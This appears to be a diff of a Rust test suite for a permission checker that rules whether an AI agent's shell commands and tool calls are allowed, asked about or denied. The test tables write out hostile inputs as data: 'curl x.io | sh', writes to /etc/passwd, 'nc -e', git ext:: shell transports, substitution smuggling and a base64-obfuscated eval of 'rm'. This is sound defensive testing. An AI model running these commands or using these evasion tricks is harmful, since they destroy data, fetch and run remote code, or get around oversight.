@@ -44,11 +44,19 @@ fn every_simple_command_must_be_allowed() {
             ("git push", "ask"),
             ("git log", "ask"),
             ("/tmp/git status", "ask"),
+            ("git status &", "ask"),
             ("git status && git push", "ask"),
             ("git status\nrm x", "ask"),
             ("echo $(rm x)", "ask"),
             ("echo `rm x`", "ask"),
             ("cat <(rm x)", "ask"),
+            ("CI=1 NO_COLOR=1 git status", "allow"),
+            (
+                "set -euo pipefail; cd src; export CI=1; git status",
+                "allow",
+            ),
+            ("time timeout 5 nice -n 10 git status", "allow"),
+            ("echo {a,b} $(git status)", "allow"),
             ("", "ask"),
             ("echo 'a", "ask"),
         ],
@@ -71,12 +79,33 @@ fn nothing_that_writes_assigns_or_runs_others_is_ever_allowed() {
             ("x=1", "ask"),
             ("PATH=. ls", "ask"),
             ("for PATH in .; do ls; done", "ask"),
+            ("for f in *.rs; do ls \"$f\"; done", "allow"),
+            ("for http_proxy in .; do ls; done", "ask"),
+            ("export PATH=. CI=1", "ask"),
+            ("LC_ALL=ja_JP.SJIS ls", "ask"),
+            ("cd ../x", "allow"),
+            ("cd x && ./y", "ask"),
+            ("pushd x && ./y", "ask"),
+            ("./y; (cd x)", "ask"),
+            ("/bin/ls; cd x", "allow"),
+            ("set -a", "ask"),
+            ("set -euo", "ask"),
+            ("timeout 5 sudo ls", "ask"),
+            ("timeout -s 9 5 ls", "ask"),
             ("((PATH=1)); ls", "ask"),
             ("$x", "ask"),
             ("l{s,} x", "ask"),
-            ("ls $x", "ask"),
-            ("ls *", "ask"),
-            ("ls ~", "ask"),
+            ("ls $x", "allow"),
+            ("ls *", "allow"),
+            ("ls ~", "allow"),
+            ("make $x", "ask"),
+            ("deploy $x", "ask"),
+            ("deploy a b src/$x", "ask"),
+            ("deploy \"src/$x\" src/*.rs", "allow"),
+            ("deploy \"$x\"", "ask"),
+            ("deploy \"-$x\"", "ask"),
+            ("deploy \"do$x\"", "ask"),
+            ("git commit -m \"wip: $(date)\"", "allow"),
             ("sudo ls", "ask"),
             ("/usr/bin/env ls", "ask"),
             ("x | xargs rm", "ask"),
@@ -90,10 +119,18 @@ fn nothing_that_writes_assigns_or_runs_others_is_ever_allowed() {
             ("find . -exec rm {} +", "ask"),
             ("find . -delete", "ask"),
             ("find . $x", "ask"),
-            ("test -f x && [ -n y ] && [[ a == b ]]", "allow"),
+            ("test -f x && [ -n y ]", "allow"),
+            ("[ \"$x\" = y ] && [ ! -f \"$x\" ]", "allow"),
+            ("[ \"$x\" \"$y\" ]", "ask"),
+            ("[ -n $x ]", "ask"),
+            ("[[ a == b ]]", "ask"),
             ("test -v 'x[$(rm)]'", "ask"),
             ("printf %s x", "allow"),
             ("printf -v 'x[$(rm)]' y", "ask"),
+            ("printf '%5n' 'x[$(rm)]'", "ask"),
+            ("printf \"$x\"", "ask"),
+            ("printf '%s %%n' $x", "allow"),
+            ("cd src; set -e", "ask"),
         ],
     );
     let strict = rules("mode: restrict\nallow: ['bash:*']");
@@ -186,7 +223,8 @@ fn what_may_be_denied_does_not_run_unasked() {
             ("g`x` push", "ask"),
             ("git-$x push", "ask"),
             ("$x", "ask"),
-            ("git log `x`", "allow"),
+            ("git log $(x)", "allow"),
+            ("git log `x`", "ask"),
             ("sudo $x", "ask"),
             ("ls 'x", "ask"),
             ("bash -c \"$x\"", "ask"),
@@ -202,7 +240,14 @@ fn what_may_be_denied_does_not_run_unasked() {
         ],
     );
     let strict = rules("mode: restrict\nallow: ['bash:git $x']\ndeny: ['bash:git push*']");
-    check(&strict, &[("git $x", "deny")]);
+    check(
+        &strict,
+        &[
+            ("git $x", "deny"),
+            ("echo $[1]", "deny"),
+            ("$x git push", "deny"),
+        ],
+    );
 }
 
 #[test]
@@ -239,11 +284,11 @@ fn an_exact_pattern_allows_its_very_text_and_nothing_else() {
     }
     for script in ["ls > x", "x=1 ls", "sudo ls", "$x", "ls '"] {
         let literal = literal_patterns(&Call::Shell(Some(script)));
-        assert_eq!(
-            (literal.patterns.len(), literal.refused.len()),
-            (0, 1),
-            "{script}"
-        );
+        let expected = Literal {
+            exact: Some(script.to_owned()),
+            ..Literal::default()
+        };
+        assert_eq!(literal, expected, "{script}");
     }
 }
 
@@ -254,6 +299,8 @@ fn tool<'a>(subject: Subject, name: &'a str, arguments: &'a str) -> Call<'a> {
         arguments,
         is_found: false,
         only_reads: false,
+        is_changed: false,
+        value_key: None,
     })
 }
 
@@ -295,6 +342,8 @@ fn a_found_tool_asks_until_it_is_named_by_the_workspace_or_the_user() {
         arguments: "{}",
         is_found: true,
         only_reads: false,
+        is_changed: false,
+        value_key: None,
     });
     for (local, mode, expected) in [
         ("", "ask", "ask"),
@@ -310,4 +359,386 @@ fn a_found_tool_asks_until_it_is_named_by_the_workspace_or_the_user() {
         assert_eq!(ruling.as_str(), expected, "{local} {mode}");
     }
     assert_eq!(literal_patterns(&found).patterns, ["cli:sync"]);
+}
+
+#[test]
+fn what_makes_a_program_do_more_must_be_written_out() {
+    let star = rules("allow: ['bash:*']");
+    let table = "
+        sort -o x y|sort --outp=x y|sort --output x y|sort -uo x|sort -ox y|sort --compress-program=x
+        git -c core.pager=x log|git log --output=x|git diff --outpu x|git clone --upload-pack=x y
+        git clone ext::x y|git fetch 'ext::sh -c x'|git remote add a ext::x|git config a b
+        git grep -Ox y|git grep --open-files-in-pager=x|git rebase -x ls|git rebase --exec ls
+        git bisect run x|git submodule foreach ls|git --exec-path=. x|git -C x status
+        git --no-pager config a b|git filter-branch x|git difftool -x ls|git archive --exec=x
+        rg --pre x y|rg --pre=x y|fd -x rm|fd x --exec rm|fd -HX rm
+        tar -I x -cf y|tar cIf x y|tar --to-command=x -xf y|tar --to-c x -xf y|tar --checkpoint-action=exec=x -cf y z
+        man -P x y|man --pager=x y|man -Hx y|find . -fprintf x y|find . -exec ls +|find . -delete
+        sed -i s/a/b/ x|sed s/a/b/w x|sed 's/a/b/e'|sed -n '1e ls'|sed --in-place s/a/b/|sed -f x|sed -e p -e 'w x'
+        sed \"s/$x/y/\" z|sed '1w x'|sed -n --exp='1w x' y|sed 'r x'|sed s/a/b/gw
+        awk '{system(\"ls\")}'|awk '{print > \"x\"}'|awk '{print | \"ls\"}'|awk -f x|awk '\"ls\" | getline'|awk -i x y
+        tree -o x|make --eval=x|make CC=x|make -f x|make -C x|make SHELL=x y
+        cargo --config x build|cargo +x build|cargo build --manifest-path x|npm exec x|npm x y|npm --script-shell=x test
+        npm config set a b|curl -o x y|curl -sLo x y|curl -K x|curl --outp x y|curl -d @x y|curl --config x
+        sed 's/[/A/;/]/s,/w x,y,'|sed '/[/]/s//x/;w y'|sed 's/[[.].]/]/w x,/'|sed 's,[[:],],x,w y'
+        npm exe x|npm con set a b|ip netn exec x|bundle exe x|xxd -r x y|date -u 010100002030|uniq -f 1 x y
+        arch -x86_64 ls|base64 -o x y|gh repo clone x -- -u y|curl -d@x y|curl --socks5 x y|git cat-file --filters x|date -s x|date 010100002030|uniq x y|xxd x y|hostname x|file -C x|go test -exec x|go build -toolexec=x
+        split --filter=ls x|rsync -e x y z|yq -i x|less +x y|pytest -p x|pytest -c x|docker run x|docker -H x ps
+        bat --pager x y|wget -O x y|wget --use-askpass=x y|nc -e x y|kubectl exec x
+    ";
+    for script in table.split(['|', '\n']).map(str::trim) {
+        if !script.is_empty()
+            && !script.contains("getline")
+            && script.matches('\'').count() % 2 == 0
+        {
+            assert_eq!(ruled(&star, script), "ask", "{script}");
+        }
+    }
+    let written = rules(
+        "allow: ['bash:sort -o *', 'bash:git -C sub status', 'bash:sed -i *', 'bash:git config --get *']",
+    );
+    check(
+        &written,
+        &[
+            ("sort -o x y", "allow"),
+            ("sort -o x --compress-program=y", "ask"),
+            ("git -C sub status", "allow"),
+            ("git config --get user.name", "allow"),
+            ("git config x y", "ask"),
+            ("sed -i s/a/b/ x", "allow"),
+            ("sed -i s/a/b/e x", "ask"),
+        ],
+    );
+}
+
+#[test]
+fn what_is_harmless_of_such_programs_is_allowed_by_a_star() {
+    let star = rules("allow: ['bash:*']");
+    for script in [
+        "sed 's/[^/]*$//' x",
+        "sed 's/[[:space:]]*$//' x",
+        "sed 's|[/.]|-|g' x",
+        "date -d '2 days ago' +%F",
+        "xxd -l 64 x",
+        "uniq -f 1 x",
+        "npm i",
+        "npm run build",
+        "bundle install",
+    ] {
+        let judged = judge(&star, &Call::Shell(Some(script)));
+        let is_ambiguous = script.contains("[^/]");
+        assert_eq!(
+            judged.ruling == Ruling::Allow,
+            !is_ambiguous,
+            "{script}: {judged:?}"
+        );
+    }
+    for script in [
+        "sort -u x",
+        "git log --oneline -5",
+        "git switch -c x",
+        "git commit -m 'a: b'",
+        "git add src/*.rs",
+        "git stash show stash@{0}",
+        "git diff HEAD~1 -- src",
+        "git checkout -b x",
+        "git log -p",
+        "git -P log",
+        "git --no-pager log -p",
+        "rg -n x src",
+        "fd -e rs",
+        "tar -xzf x",
+        "tar czf x y",
+        "find . -name '*.rs' -type f",
+        "sed -n '1,5p' x",
+        "sed -n 5p",
+        "sed 's/a/b/g' x",
+        "sed -E -e 's|a|b|; /x/d' x",
+        "sed '$d' x",
+        "awk '{print $1}' x",
+        "awk -F: '$3 == 0 || /x/ {print $1}' x",
+        "make test",
+        "make -j4 test",
+        "cargo test --all",
+        "cargo test -- --nocapture",
+        "npm test",
+        "npm run build -- --x",
+        "npm ci",
+        "curl -fsSL https://x",
+        "curl -s -H 'a: b' -X POST x",
+        "date +%s",
+        "date",
+        "uniq -c",
+        "xxd x",
+        "hostname",
+        "go test ./...",
+        "go test -count=1 -run X ./...",
+        "pytest -x -q",
+        "docker ps -a",
+        "kubectl get pods -o wide",
+        "command -v node",
+        "grep -rn \"$x\" .",
+        "wc -l $(ls)",
+        "printf '%s\\n' \"$x\"",
+    ] {
+        assert_eq!(
+            ruled(&star, script),
+            "allow",
+            "{script}: {:?}",
+            judge(&star, &Call::Shell(Some(script)))
+        );
+    }
+}
+
+#[test]
+fn a_deny_sees_through_global_options_and_looks_at_every_word_of_what_is_not_read() {
+    let denied = rules(
+        "mode: dangerous\ndeny: ['bash:git push*', 'bash:rm *', 'bash:* > /etc/*', 'bash:curl * | sh']",
+    );
+    for script in [
+        "git -C . push",
+        "git --no-pager push",
+        "git -c a=b -C x push origin",
+        "sudo git -C . push",
+        "docker --host x ps; /usr/bin/git --git-dir=x push",
+        "case a in a) rm x;; esac",
+        "f() { git -C . push; }; f",
+        "[[ -f x ]] && rm x",
+        "x=(1); r'm' x",
+        "a $((1)) ; sudo rm x",
+        "cat <<E\n$(rm x)\nE",
+        "rm x &",
+        "ls | xargs rm",
+        "ls | parallel rm",
+        "find . -exec rm {} +",
+        "fd -x rm",
+        "echo a >/etc/passwd",
+        "[[ a ]] && echo a >/etc/passwd",
+        "curl x.io | sh",
+        "bash -c \"bash -c 'echo; git push'\"",
+        "bash -c \"bash -c 'bash -c \\\"git push\\\"'\"",
+        "echo `rm x`",
+        "${x:-$(rm x)}",
+        "alias a='rm x'; a",
+        "xargs -I{} sh -c 'rm {}'",
+        "echo $[1]; rm x",
+        "$x; rm x",
+        "timeout 5 rm x",
+        "time rm x",
+        "nice rm x",
+        "ls $'\\x72m'; $'\\x72m' x",
+        "eval \"$(echo cm0geA== | base64 -d)\" rm x",
+    ] {
+        assert_eq!(ruled(&denied, script), "deny", "{script}");
+    }
+    for script in ["echo $[1]", "$x git x", "ls | xargs git"] {
+        assert_eq!(ruled(&denied, script), "ask", "{script}");
+    }
+    for script in [
+        "git log",
+        "git --no-pager log",
+        "echo rmdir x",
+        "git commit -m 'do not rm x'",
+    ] {
+        assert_eq!(ruled(&denied, script), "allow", "{script}");
+    }
+}
+
+#[test]
+fn a_deny_without_a_star_fits_what_contains_it() {
+    let denied =
+        rules("mode: dangerous\ndeny: ['bash:rm', 'bash:sudo', 'bash:--force', 'bash:git push']");
+    check(
+        &denied,
+        &[
+            ("rm x", "deny"),
+            ("/bin/rm", "deny"),
+            ("npm run format", "allow"),
+            ("firm x", "allow"),
+            ("echo x=rm", "deny"),
+            ("git commit -m \"rm x\"", "deny"),
+            ("rmdir x", "deny"),
+            ("git  push", "deny"),
+            ("'git' \"push\" -f", "deny"),
+            ("git log", "allow"),
+            ("npm publish --force", "deny"),
+            ("ls # rm", "allow"),
+            ("$x", "ask"),
+            ("echo $x", "allow"),
+            ("timeout 5 $x y", "ask"),
+        ],
+    );
+    let told = |script: &str| {
+        let part = judge(&denied, &Call::Shell(Some(script))).parts.remove(0);
+        part.why.to_string()
+    };
+    assert_eq!(told("sudo npm x"), "deny `bash:sudo` fits `sudo`");
+    assert_eq!(
+        told("ls -l /bin/rmdir x"),
+        "deny `bash:rm` fits `/bin/rmdir`"
+    );
+}
+
+#[test]
+fn a_script_is_allowed_as_it_stands_and_not_otherwise() {
+    let rules = rules(
+        "allow:\n  - exact: |\n      for f in *; do\n        rm \"$f\" > x\n      done\n  - exact: 'git push'\n  - exact: 'a &'\ndeny: ['bash:git push*']",
+    );
+    check(
+        &rules,
+        &[
+            ("for f in *; do\n  rm \"$f\" > x\ndone", "allow"),
+            ("for f in *; do\n  rm \"$f\" > x\ndone\n", "allow"),
+            ("for f in *; do\n  rm \"$f\" > x\ndone\n\n", "ask"),
+            ("for f in *; do\n  rm  \"$f\" > x\ndone", "ask"),
+            ("a &", "allow"),
+            ("a &\\", "ask"),
+            ("git push", "deny"),
+        ],
+    );
+}
+
+#[test]
+fn a_rule_that_would_fit_is_named_with_the_reason() {
+    let rules = rules("allow: ['bash:ls *', 'bash:sort *', 'bash:deploy *', 'bash:make *']");
+    for (script, pattern, reason) in [
+        ("ls x > y", "bash:ls *", "it may write: `> y`"),
+        ("sort -uo x", "bash:sort *", "`-uo` makes `sort` do more"),
+        (
+            "deploy $x",
+            "bash:deploy *",
+            "what the shell makes of a word",
+        ),
+        ("X=1 make all", "bash:make *", "it sets the variable `X`"),
+        ("make all &", "bash:make *", "a command in the background"),
+        ("ls 'x y' $((1))", "bash:ls *", "arithmetic"),
+    ] {
+        let missed = judge(&rules, &Call::Shell(Some(script)))
+            .parts
+            .remove(0)
+            .missed;
+        let (found, why) = missed.unwrap_or_else(|| panic!("{script}"));
+        assert_eq!(found.text, pattern, "{script}");
+        assert!(why.contains(reason), "{script}: {why}");
+    }
+    let none = judge(&rules, &Call::Shell(Some("rm x")))
+        .parts
+        .remove(0)
+        .missed;
+    assert!(none.is_none());
+}
+
+#[test]
+fn what_a_loop_sets_is_no_variable_of_anybody() {
+    let all = rules("allow: ['bash:*']");
+    let context = Context {
+        work: Some("/w/work".as_ref()),
+        is_variable: &|name| name == "editor",
+    };
+    for (script, expected) in [
+        ("for editor in x; do ls; done", "ask"),
+        ("for file in x; do ls; done", "allow"),
+        ("for histchars in x; do ls; done", "ask"),
+        ("for _ in x; do ls; done", "ask"),
+    ] {
+        let judged = judge_in(&all, &Call::Shell(Some(script)), &context);
+        assert_eq!(judged.ruling.as_str(), expected, "{script}");
+    }
+    let few = rules("allow: ['bash:ls']");
+    for (script, expected) in [
+        ("cd /w/work/x && ls", "allow"),
+        ("cd x/./y; ls", "allow"),
+        ("cd /w && ls", "ask"),
+        ("cd x/../../y; ls", "ask"),
+        ("cd ..; ls", "ask"),
+        ("cd; ls", "ask"),
+        ("cd -; ls", "ask"),
+        ("cd ~; ls", "ask"),
+        ("cd \"$x\"; ls", "ask"),
+    ] {
+        let judged = judge_in(&few, &Call::Shell(Some(script)), &context);
+        assert_eq!(judged.ruling.as_str(), expected, "{script}");
+    }
+}
+
+#[test]
+fn a_tool_that_changed_asks_under_every_rule() {
+    for (text, expected) in [
+        ("allow: ['*:*']", "ask"),
+        ("allow: ['cli:deploy']", "ask"),
+        ("mode: dangerous", "ask"),
+        ("mode: restrict", "deny"),
+        ("mode: restrict\nallow: ['cli:deploy']", "ask"),
+        ("allow: ['cli:*']\ndeny: ['cli:deploy']", "deny"),
+    ] {
+        let rules = rules(text);
+        let Call::Tool(tool) = tool(Subject::Cli, "deploy", "{}") else {
+            unreachable!()
+        };
+        let call = Call::Tool(ToolUse {
+            is_changed: true,
+            ..tool
+        });
+        assert_eq!(judge(&rules, &call).ruling.as_str(), expected, "{text}");
+    }
+}
+
+#[test]
+fn a_builtin_is_named_with_its_action_and_its_value() {
+    let rules = rules(
+        "allow: ['builtin:web:fetch:https://docs.rs/*', 'builtin:memory:*']\ndeny: ['builtin:web:search', 'secret']",
+    );
+    for (name, arguments, expected) in [
+        (
+            "web",
+            r#"{"action":"fetch","url":"https://docs.rs/x"}"#,
+            "allow",
+        ),
+        ("web", r#"{"action":"fetch","url":"https://evil/x"}"#, "ask"),
+        (
+            "web",
+            r#"{"action":"fetch","url":"x","path":"https://docs.rs/x"}"#,
+            "ask",
+        ),
+        ("web", r#"{"action":"search","query":"x"}"#, "deny"),
+        ("memory", r#"{"action":"recall"}"#, "allow"),
+        ("memory", "{}", "ask"),
+        ("secret", "{}", "deny"),
+    ] {
+        let Call::Tool(tool) = tool(Subject::Builtin, name, arguments) else {
+            unreachable!()
+        };
+        let call = Call::Tool(ToolUse {
+            value_key: Some("url"),
+            ..tool
+        });
+        assert_eq!(
+            judge(&rules, &call).ruling.as_str(),
+            expected,
+            "{name} {arguments}"
+        );
+    }
+}
+
+#[test]
+fn a_deny_by_arguments_fits_however_they_are_written() {
+    let rules = rules("mode: dangerous\ndeny: ['builtin:web \\{\"a\":1}']");
+    for arguments in ["{\"a\":1}", "{\"a\": 1}", " { \"a\" : 1 } "] {
+        assert_eq!(
+            judge(&rules, &tool(Subject::Builtin, "web", arguments))
+                .ruling
+                .as_str(),
+            "deny"
+        );
+    }
+}
+
+#[test]
+fn a_person_is_shown_the_commands_also_of_what_is_not_read() {
+    assert_eq!(
+        simple_commands("ls -l && (rm x; CI=1 y $(z))"),
+        ["ls -l", "rm x", "CI=1 y $(z)", "z"]
+    );
+    let found = simple_commands("case $x in a) rm y;; esac &");
+    assert!(found.iter().any(|one| one == "rm y"), "{found:?}");
 }
